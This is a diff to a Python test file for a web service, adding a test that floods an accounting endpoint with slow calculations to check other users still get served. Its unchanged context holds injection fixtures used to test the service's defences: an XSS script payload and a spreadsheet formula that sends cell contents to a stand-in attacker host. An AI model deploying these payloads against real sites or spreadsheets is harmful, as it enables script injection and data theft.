@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import contextlib
 import csv
 import io
 import json
@@ -11,6 +12,7 @@ import time
 from typing import TYPE_CHECKING, Any
 from urllib.parse import urlsplit
 
+import httpx
 import pytest
 
 from quaestor.ledger import ROLES
@@ -20,8 +22,6 @@ from tests.service.test_rules import ROUTES
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
-
-    import httpx
 
 MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)>"
 FORMULA = '=HYPERLINK("https://evil.example?"&A1,"open")'
@@ -313,3 +313,27 @@ def test_nobody_is_more_than_their_token_allows(service: RunningService) -> None
     assert client.post("/api/v1/people/all/tokens", json={}).status_code == 403
     assert client.post("/api/v1/people/all/links").status_code == 403
     assert client.post("/api/v1/people/all/identities", json={}).status_code == 403
+
+
+@pytest.mark.slow
+def test_long_calculations_keep_nobody_from_the_rest(
+    tmp_path_factory: pytest.TempPathFactory,
+) -> None:
+    catalog = made_hospital(tmp_path_factory.mktemp("computing"))
+    sampled = "PoissonSampled(release=Gaussian(sigma={}), rate=0.0{})*1000"
+    body = {"releases": [sampled.format(1 + i / 7, 10 + i) for i in range(5)]}  # for minutes
+
+    def ask(service: RunningService) -> None:
+        with contextlib.suppress(httpx.TransportError):
+            service.client("ann").post("/api/v1/accountant/region", json=body)
+
+    with running(catalog, "--rate", "100000", "--grace", "0.1") as service:
+        threads = [threading.Thread(target=ask, args=(service,)) for _ in range(10)]
+        for thread in threads:
+            thread.start()
+        time.sleep(2)
+        assert service.client("bob").get("/api/v1/session").is_success
+        assert "accountant/region" not in service.client("udo").get("/metrics").text
+        service.kill()
+        for thread in threads:
+            thread.join()
